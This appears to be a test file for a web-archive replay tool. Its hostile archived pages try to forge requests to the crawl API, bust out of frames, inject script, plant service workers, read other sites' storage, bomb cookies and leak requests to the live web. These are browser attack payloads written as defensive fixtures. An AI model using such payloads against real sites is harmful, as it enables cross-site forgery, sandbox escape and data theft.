// Hostile archived pages on the program itself: whatever they try, our pages and API do not change, no crawl is started,
// other archived sites keep what is theirs, and the live web hears nothing.
//
// What "nothing" is, in which mode:
// - names, address: no connection (not even a silent one) and no packet, after each page and at the end; and at the end no
//   name of the live web in the browser's log, be it looked up or connected to.
// - opaque: the same for everything but navigations. A page without an origin has no navigation API by which our script
//   could be first: Chromium then opens a connection ahead of a navigation that the policy refuses, and says nothing on it
//   but, for https, the name. So there it is no request and no packet, and the name of the live web may be in the log. That
//   name is another one than in the other modes, whose silence is thus still checked.
// - the wall alone, in each mode: our script is left out, which stands for a hostile one that got around it, and only the
//   policy that the program sends is left. No request and no packet, as with navigations above. Without this check a policy
//   that allows everything is not noticed: our script takes every attempt to the archive before the policy is asked.

import assert from 'node:assert/strict';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { launchBrowser, recordNetwork, startTrap, until } from './harness.js';
import { NAME, SKIP, otherAddress, run, startServer, workshop, writeWarc } from './server.js';

const EVIL = 'http://evil.example/';
const BANK = 'http://bank.example/';
const LIVE = 'live.example';
const ELSEWHERE = otherAddress();
const MODES = {
    names: { host: NAME, frames: NAME },
    // The pages by address: archived sites still have names of their own, but are strangers to the pages for the browser.
    address: { host: '127.0.0.1', frames: 'localhost' },
    opaque: {
        host: ELSEWHERE,
        frames: ELSEWHERE,
        skip: ELSEWHERE ? false : 'this machine has no address but loopback',
    },
};
if (MODES.opaque.skip) console.log(`skipped: ${MODES.opaque.skip}; pages without an origin are not checked`);
/** The same with names of its own where navigations are heard: live.opaque.example for live.example. */
const inMode = (mode, text) =>
    mode === 'opaque' ? text.replace(/\b(evil|bank|live)\.example\b/g, '$1.opaque.example') : text;
const shop = workshop();
let trap, server, launched;

/** A page that tries something. It has UI, the origin of our pages, and TOKEN: knowing it must not help either. */
const evil = (name, code, body = '') => ({
    url: `${EVIL}${name}.html`,
    time: '2026-01-02T03:04:05Z',
    body: `<!doctype html><title>${name}</title><p>evil</p>${body}<script>
        const UI = [...location.ancestorOrigins].at(-1), TOKEN = 'THE TOKEN';
        const outcome = promise => Promise.resolve(promise).then(value => 'did: ' + value, error => 'refused: ' + error.name);
        const tried = {};
        (async () => { ${code} })().then(() => { window.result = tried; }, error => { window.result = { ...tried, threw: String(error) }; });
    </script>`,
});

const ATTEMPTS = {
    // Reads and writes of the API, by every way a script has to send something.
    api: evil(
        'api',
        `const answered = response => response.type + ' ' + response.status;
        tried.read = await outcome(fetch(UI + '/api/v1/crawls').then(answered));
        tried.blind = await outcome(fetch(UI + '/api/v1/crawls', { mode: 'no-cors' }).then(answered));
        const body = JSON.stringify({ seeds: ['http://victim.example/'] });
        tried.post = await outcome(fetch(UI + '/api/v1/crawls', { method: 'POST', body, headers: { 'content-type': 'application/json' } }).then(answered));
        tried.plain = await outcome(fetch(UI + '/api/v1/crawls', { method: 'POST', body, mode: 'no-cors' }).then(answered));
        tried.token = await outcome(fetch(UI + '/api/v1/crawls', { method: 'POST', body, headers: { authorization: 'Bearer ' + TOKEN, 'content-type': 'application/json' } }).then(answered));
        tried.form = await outcome(fetch(UI + '/crawls', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ seeds: 'http://victim.example/', token: TOKEN }) }).then(answered));
        tried.stop = await outcome(fetch(UI + '/crawls/x/stop', { method: 'POST', mode: 'no-cors', credentials: 'include' }).then(answered));
        tried.beacon = navigator.sendBeacon(UI + '/crawls', new URLSearchParams({ seeds: 'http://victim.example/', token: TOKEN })) && 'dropped';
        const image = new Image(); image.src = UI + '/api/v1/crawls'; tried.image = await outcome(new Promise((done, failed) => { image.onload = done; image.onerror = () => failed(new Error()); }));
        // An empty frame has functions that our script has not touched.
        const fresh = document.body.appendChild(document.createElement('iframe')).contentWindow;
        tried.fresh = await outcome((async () => fresh.fetch)().then(fetch => fetch.call(fresh, UI + '/api/v1/crawls', { method: 'POST', body, mode: 'no-cors' })).then(answered));
        const worker = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(UI + '/api/v1/crawls') + ', { method: "POST", body: "{}", mode: "no-cors" }).then(r => postMessage("did: " + r.type + " " + r.status), e => postMessage("refused"))'])));
        tried.worker = await new Promise(done => { worker.onmessage = event => done(event.data); worker.onerror = () => done('refused'); });`,
    ),
    // The pages around it, and the whole window.
    window: evil(
        'window',
        `tried.document = await outcome((async () => top.document.title)());
        tried.storage = await outcome((async () => top.localStorage.length)());
        tried.bust = await outcome((async () => { top.location.href = 'http://live.example/bust'; })());
        tried.replace = await outcome((async () => { top.location.replace('http://live.example/bust'); })());
        tried.target = await outcome((async () => { const a = document.createElement('a'); a.href = 'http://live.example/target'; a.target = '_top'; Object.defineProperty(a, 'target', { value: '' }); })());
        const fresh = document.body.appendChild(document.createElement('iframe')).contentWindow;
        tried.popup = await outcome((async () => fresh.open('http://live.example/popup', '_blank') ? 'opened' : 'nothing')());
        try { opener?.postMessage('x', '*'); } catch {}
        top.postMessage({ herodotus: 1, kind: 'at', url: 'javascript:alert(1)', stamp: '20260102030405', title: '<img src=x onerror=alert(1)>' }, '*');
        top.postMessage({ herodotus: 1, kind: 'open', url: 'http://live.example/asked', stamp: '20260102030405' }, '*');`,
    ),
    worker: evil(
        'worker',
        `const container = navigator.serviceWorker;
        const native = Object.getOwnPropertyDescriptor(Navigator.prototype, 'serviceWorker')?.get;
        tried.register = await outcome(container ? container.register('/sw-evil.js') : Promise.reject(new Error('none')));
        const fresh = document.body.appendChild(document.createElement('iframe')).contentWindow;
        for (const [name, url] of Object.entries({ root: '/sw-evil.js', archived: '/web/20260102030405js_/http://evil.example/sw-evil.js', worker: '/web/20260102030405wkr_/http://evil.example/sw-evil.js' })) {
            tried[name] = await outcome((async () => fresh.ServiceWorkerContainer.prototype.register.call(native.call(navigator), url, { scope: '/' }))());
        }`,
    ),
    storage: evil(
        'storage',
        `const frame = document.createElement('iframe'); frame.src = '${BANK}account.html';
        const told = new Promise(done => addEventListener('message', event => { if (event.data?.bank) done(event.data.bank); }));
        document.body.append(frame);
        tried.bank = await told;
        tried.window = await outcome((async () => frame.contentWindow.localStorage.secret)());
        tried.document = frame.contentDocument === null ? 'null' : 'there';
        tried.own = String(localStorage.getItem('secret'));
        tried.cookies = document.cookie.includes('secret') ? document.cookie : 'none';
        tried.fetched = await outcome(fetch('${BANK}account.html', { credentials: 'include' }).then(response => response.headers.get('set-cookie') ?? 'no cookie'));`,
    ),
    bomb: evil(
        'bomb',
        `const parents = location.hostname.split('.').map((_, at, parts) => parts.slice(at).join('.'));
        const native = document.body.appendChild(document.createElement('iframe')).contentWindow;
        const set = Object.getOwnPropertyDescriptor(native.Document.prototype, 'cookie')?.set ?? Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').set;
        for (let n = 0; n < 300; n++) for (const domain of parents) {
            try { set.call(document, 'bomb' + n + '=' + 'x'.repeat(3900) + '; path=/; domain=' + domain); } catch {}
            try { document.cookie = 'own' + n + '=' + 'y'.repeat(3900) + '; path=/; domain=' + domain; } catch {}
        }
        tried.set = 'tried';`,
    ),
};
// What the policy alone must refuse, each with an end that can be waited for.
const WALL = evil(
    'wall',
    `const live = 'http://live.example/', wanted = {
            fetch: () => fetch(live + 'fetch', { mode: 'no-cors' }),
            api: () => fetch(UI + '/api/v1/crawls', { method: 'POST', mode: 'no-cors', body: '{}' }),
            xhr: () => ended(new XMLHttpRequest(), x => { x.open('GET', live + 'xhr'); x.send(); }),
            events: () => ended(new EventSource(live + 'events')),
            socket: () => ended(new WebSocket('ws://live.example/socket')),
            image: () => ended(new Image(), i => { i.src = live + 'image'; }),
            script: () => ended(document.createElement('script'), e => { e.src = live + 'script'; document.body.append(e); }),
            style: () => ended(document.createElement('link'), e => { e.rel = 'stylesheet'; e.href = live + 'style'; document.body.append(e); }),
            video: () => ended(document.createElement('video'), e => { e.src = live + 'video'; }),
            font: () => new FontFace('f', 'url(' + live + 'font)').load(),
            module: () => import(live + 'module'),
            object: () => ended(document.createElement('object'), e => { e.data = live + 'object'; document.body.append(e); }),
            frame: () => ended(document.createElement('iframe'), e => { e.src = live + 'frame'; document.body.append(e); }),
            worker: () => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + live + 'worker", { mode: "no-cors" }).finally(() => postMessage(1)).catch(() => {})']))); return ended(w); },
        };
        function ended(target, begin = () => {}) {
            return new Promise(done => {
                for (const name of ['load', 'error', 'open', 'message', 'loadend']) target.addEventListener(name, () => done(name), { once: true });
                addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
                begin(target);
            });
        }
        for (const [name, attempt] of Object.entries(wanted)) tried[name] = await outcome((async () => attempt())());`,
);
const WALL_WAYS = 14;
const NAVIGATIONS = {
    location: `location = 'http://live.example/location'`,
    replace: `location.replace('https://live.example/replace')`,
    fresh: `document.body.appendChild(document.createElement('iframe')).contentWindow.Location.prototype; location.assign('//live.example/assign')`,
    refresh: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=http://live.example/refresh">')`,
    form: `document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action="http://live.example/form"></form>'); HTMLFormElement.prototype.submit.call(f)`,
    ui: `document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action="' + UI + '/crawls"><input name=seeds value="http://victim.example/"><input name=token value="' + TOKEN + '"></form>'); f.submit()`,
    uiTop: `document.body.insertAdjacentHTML('beforeend', '<form id=f method=post target=_top action="' + UI + '/crawls"><input name=seeds value="http://victim.example/"></form>'); f.submit()`,
    uiFrame: `location = UI + '/crawls'`,
    data: `location = 'data:text/html,<script>location="http://live.example/data"<\\/script>'`,
};

before(async () => {
    if (SKIP) return;
    const first = await startServer(shop.data);
    const token = first.token();
    await first.close();
    const file = path.join(shop.folder, 'hostile.warc');
    const time = '2026-01-02T03:04:05Z';
    const captures = JSON.stringify(
        [
            ...Object.values(ATTEMPTS),
            WALL,
            ...Object.entries(NAVIGATIONS).map(([name, code]) =>
                evil(
                    `go-${name}`,
                    `addEventListener('message', event => { if (event.data === 'go') { ${code}; } }); tried.ready = 'yes';`,
                ),
            ),
            {
                url: `${EVIL}sw-evil.js`,
                time,
                type: 'text/javascript',
                body: 'self.onfetch = () => {};',
                headers: { 'service-worker-allowed': '/' },
            },
            { url: `${EVIL}next.html`, time, body: '<!doctype html><title>next</title><p id="next">next</p>' },
            { url: `${EVIL}loop`, time, status: 302, headers: { location: '/loop' } },
            { url: `${EVIL}ping`, time, status: 302, headers: { location: '/pong' } },
            { url: `${EVIL}pong`, time, status: 302, headers: { location: 'http://bank.example/ping' } },
            { url: `${BANK}ping`, time, status: 302, headers: { location: `${EVIL}ping` } },
            {
                url: `${EVIL}out`,
                time,
                status: 302,
                headers: { location: 'http://live.example/out', refresh: '0; url=http://live.example/refresh' },
            },
            { url: `${EVIL}split`, time, status: 302, headers: { location: '//live.example\\@herodotus.localhost/' } },
            {
                url: `${EVIL}headers.html`,
                time,
                body: '<!doctype html><title>headers</title><p id="next">headers</p>',
                headers: {
                    refresh: '0; url=http://live.example/refresh',
                    link: [
                        '<http://live.example/style.css>; rel=preload; as=style',
                        '<http://live.example/>; rel=preconnect',
                    ],
                    'set-cookie': ['secret=1; domain=localhost', 'secret=2; path=/'],
                    'report-to': '{"group":"x","max_age":100,"endpoints":[{"url":"https://live.example/report"}]}',
                    nel: '{"report_to":"x","max_age":100}',
                    'content-security-policy-report-only': "default-src 'none'; report-uri http://live.example/csp",
                    'clear-site-data': '"*"',
                    'access-control-allow-origin': '*',
                    'alt-svc': 'h2="live.example:443"',
                },
            },
            {
                url: `${BANK}account.html`,
                time,
                body: `<!doctype html><title>bank</title><script>
                try { localStorage.secret = 'gold'; } catch {}
                document.cookie = 'secret=gold; path=/';
                let kept = null; try { kept = localStorage.secret; } catch {}
                parent.postMessage({ bank: 'keeps ' + kept }, '*');</script>`,
            },
        ].map(one => ({ ...one, body: one.body?.replace('THE TOKEN', token) })),
    );
    writeWarc(
        file,
        ['names', 'opaque'].flatMap(mode => JSON.parse(inMode(mode, captures))),
    );
    await run('import', '--data', shop.data, file);
    server = await startServer(shop.data, {
        address: '0.0.0.0',
        args: ['--allow-private', '127.0.0.0/8', '--connect-to', '*.example=127.0.0.1:9'],
    });
    shop.later(() => server.close());
    trap = await startTrap();
    launched = await launchBrowser(trap, { own: [ELSEWHERE] });
    shop.later(async () => {
        const names = await launched.close();
        await trap.close();
        assert.deepEqual(trap.seen, [], 'the live web heard from us');
        assert.deepEqual(
            names.filter(name => name !== inMode('opaque', LIVE)),
            [],
            'names were looked up or connected to',
        );
    });
});
after(() => shop.close());

/** Shows archived pages, lets `act` look at each, and then sees that nothing has changed and the live web heard nothing. */
async function visit(mode, names, act, { heard = () => trap.seen, bare = false } = {}) {
    const { host, frames } = MODES[mode];
    const ui = server.ui(host);
    const context = await launched.browser.newContext();
    context.setDefaultTimeout(10_000);
    if (bare) {
        const nothing = { contentType: 'text/javascript', body: '' };
        await context.route('**/herodotus/replay.js', route => route.fulfill(nothing));
    }
    const tab = await context.newPage();
    const urls = recordNetwork(tab);
    const reached = [];
    tab.on('response', response => {
        const request = response.request();
        const foreign = request.frame() !== tab.mainFrame() && response.url().startsWith(ui + '/');
        if (foreign || (response.url().startsWith(ui + '/') && request.method() !== 'GET'))
            reached.push(response.url());
    });
    try {
        for (const name of [names].flat()) {
            await tab.goto(inMode(bare ? 'opaque' : mode, `${ui}/web/2026/${EVIL}${name}`), { waitUntil: 'commit' });
            const frame = await (await tab.waitForSelector('iframe[data-frame]')).contentFrame();
            await act({ tab, frame, ui, context, urls, name });
            // It stands where it stood.
            assert.equal(new URL(tab.url()).origin, ui, name);
            assert.deepEqual(heard(), [], `the live web heard from ${name}`);
        }
        // Our own pages open a window on the archive when the reader has clicked, which the harness is taken for.
        const windows = context.pages().map(page => page.url());
        assert.deepEqual(
            windows.filter(url => !url.startsWith(`${ui}/`) && url !== 'about:blank'),
            [],
        );
        assert.deepEqual(reached, [], 'our pages answered it');
        assert.deepEqual(await server.api('/crawls').then(told => told.crawls ?? told), [], 'a crawl was started');
        // The browser tells of requests that it refuses, too; those to the live web the trap would have heard.
        const strays = urls.filter(
            url => /^(?:http|ws)/.test(url) && !url.startsWith(ui + '/') && !server.isReplay(url, frames),
        );
        assert.deepEqual(
            strays.filter(url => new URL(url).hostname !== inMode(bare ? 'opaque' : mode, LIVE)),
            [],
            'requests to others',
        );
    } finally {
        await context.close();
    }
}

// Whatever came of an attempt (the archive's page, the browser's refusal, nothing) is decided when another page stands after it.
async function nextStands(mode, tab, ui) {
    await tab.goto(inMode(mode, `${ui}/web/2026/${EVIL}next.html`));
    await (await (await tab.waitForSelector('iframe[data-frame]')).contentFrame()).waitForSelector('#next');
}

// The silent connections that are bound to be there must not be laid to the checks that follow.
const forgetSilent = () => trap.seen.splice(0, trap.seen.length, ...trap.requests());

const resultOf = async frame => {
    await frame.waitForFunction(() => window.result);
    return frame.evaluate(() => window.result);
};

for (const [mode, { skip }] of Object.entries(MODES)) {
    const check = (name, act) => test(`${mode}: ${name}`, { skip: SKIP || skip }, act);

    check('the API is out of reach, even for who knows the token', () =>
        visit(mode, 'api.html', async ({ frame }) => {
            const tried = await resultOf(frame);
            assert.equal(Object.keys(tried).length, 11, JSON.stringify(tried));
            // Refused by the policy, or taken to the archive, which has no such page. Without an origin one cannot even tell.
            const ok =
                mode === 'opaque'
                    ? /^(?:refused|dropped|did: (?:opaque 0|\w+ 404))/
                    : /^(?:refused|dropped|did: \w+ 404)/;
            for (const [way, outcome] of Object.entries(tried)) assert.match(outcome, ok, `${way}: ${outcome}`);
        }),
    );

    check('the window around stays where it is, and no other opens', () =>
        visit(mode, 'window.html', async ({ tab, frame }) => {
            const tried = await resultOf(frame);
            assert.equal(tried.threw, undefined);
            assert.match(tried.popup, /nothing|^refused/);
            assert.match(tried.document, /^refused/);
            assert.match(tried.storage, /^refused/);
            assert.equal(await tab.locator('img').count(), 0);
        }),
    );

    check('it cannot install a service worker of its own', () =>
        visit(mode, 'worker.html', async ({ frame, context }) => {
            const tried = await resultOf(frame);
            for (const [way, outcome] of Object.entries(tried)) {
                if (way !== 'register') assert.match(outcome, /^refused/, `${way}: ${outcome}`);
            }
            for (const worker of context.serviceWorkers()) assert.match(worker.url(), /\/herodotus\/sw\.js$/);
        }),
    );

    check("another archived site's storage, cookies and document are its own", () =>
        visit(mode, 'storage.html', async ({ frame }) => {
            const tried = await resultOf(frame);
            assert.equal(tried.bank, 'keeps gold');
            assert.match(tried.window, /^refused/);
            assert.deepEqual(
                [tried.document, tried.own, tried.cookies, tried.threw],
                ['null', 'null', 'none', undefined],
                JSON.stringify(tried),
            );
            assert.doesNotMatch(tried.fetched, /gold/);
        }),
    );

    check('a bomb of cookies on every parent domain leaves our pages and replay answering', () =>
        visit(mode, 'bomb.html', async ({ tab, frame, ui }) => {
            await resultOf(frame);
            for (const address of ['/', inMode(mode, `/web/*/${EVIL}next.html`), '/crawls']) {
                const response = await tab.goto(ui + address);
                assert.equal(response.status(), 200, address);
            }
            await nextStands(mode, tab, ui);
            await tab.goto(inMode(mode, `${ui}/web/2026/${BANK}account.html`));
            await (
                await (await tab.waitForSelector('iframe[data-frame]')).contentFrame()
            ).waitForFunction(() => document.title === 'bank');
        }),
    );

    check(`navigations out, in ${Object.keys(NAVIGATIONS).length} ways`, async () => {
        await visit(
            mode,
            Object.keys(NAVIGATIONS).map(name => `go-${name}.html`),
            async ({ tab, frame, ui }) => {
                await resultOf(frame);
                await tab.evaluate(() => document.querySelector('iframe').contentWindow.postMessage('go', '*'));
                await nextStands(mode, tab, ui);
            },
            mode === 'opaque' ? { heard: trap.requests } : {},
        );
        if (mode === 'opaque') forgetSilent();
    });

    check(`the wall alone refuses ${WALL_WAYS} ways out`, async () => {
        const act = async ({ frame, tab, ui }) => {
            const tried = await resultOf(frame);
            assert.equal(Object.keys(tried).length, WALL_WAYS, JSON.stringify(tried));
            await nextStands(mode, tab, ui);
        };
        await visit(mode, 'wall.html', act, { heard: trap.requests, bare: true }).finally(forgetSilent);
    });

    check('redirects that never end, or lead out', () =>
        visit(mode, ['loop', 'ping', 'out', 'split'], async ({ tab, urls, ui, name }) => {
            await until(tab, 'request', () => urls.some(url => server.isReplay(url, MODES[mode].frames)), name);
            await nextStands(mode, tab, ui);
            assert.ok(urls.length < 200, `${urls.length} requests`);
        }),
    );

    check('headers of an archived answer have no power', () =>
        visit(mode, 'headers.html', async ({ frame, context }) => {
            // The one that does something leads into the archive.
            await frame.waitForURL(
                url => /\/web\/\d{14}\//.test(url) && url.href.endsWith(`/http://${inMode(mode, LIVE)}/refresh`),
            );
            assert.deepEqual(
                (await context.cookies()).filter(cookie => cookie.name === 'secret'),
                [],
            );
        }),
    );
}

test('a name that is not ours gets no answer from pages or replay', { skip: SKIP }, async () => {
    // As after a rebinding of DNS; written by hand because a browser would go to the trap.
    const { request } = await import('node:http');
    for (const port of [server.uiPort, server.replayPort]) {
        const status = await new Promise((done, failed) =>
            request(
                { host: '127.0.0.1', port, path: '/api/v1/crawls', headers: { host: `evil.example:${port}` } },
                response => {
                    response.resume();
                    done(response.statusCode);
                },
            )
                .on('error', failed)
                .end(),
        );
        assert.equal(status, 421);
    }
});
